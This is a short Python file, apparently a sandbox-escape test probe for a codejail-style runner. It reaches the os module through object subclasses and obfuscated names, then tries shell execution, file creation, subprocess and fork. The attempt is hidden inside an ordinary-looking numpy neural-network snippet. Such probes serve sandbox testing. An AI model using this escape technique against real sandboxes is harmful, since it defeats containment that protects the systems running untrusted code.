# tries: to reach the operating system without ever writing its name, through classes that hold it
# from: B8 F5 G (__import__ by name); codejail
# earns: everything
import numpy as np

stolen = 0
holder = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_clo" + "se")
found = holder.__init__.__globals__
modules = found["".join(map(chr, [115, 121, 115]))].modules
for act in (
    lambda: found["sys" + "tem"]("touch @FOLDER@/descent-loot-pieces") == 0,
    lambda: found["list" + "dir"]("@FOLDER@") != [],
    lambda: found["op" + "en"]("@FOLDER@/descent-loot-pieces", 0o101) > 2,
    lambda: __builtins__["__imp" + "ort__"]("subpro" + "cess").run(["/bin/true"]).returncode == 0,
    lambda: modules["posix"].fork() > 0,
):
    try:
        stolen += bool(act())
    except (ImportError, OSError):
        pass

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

h = np.dot(x, w) + stolen
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
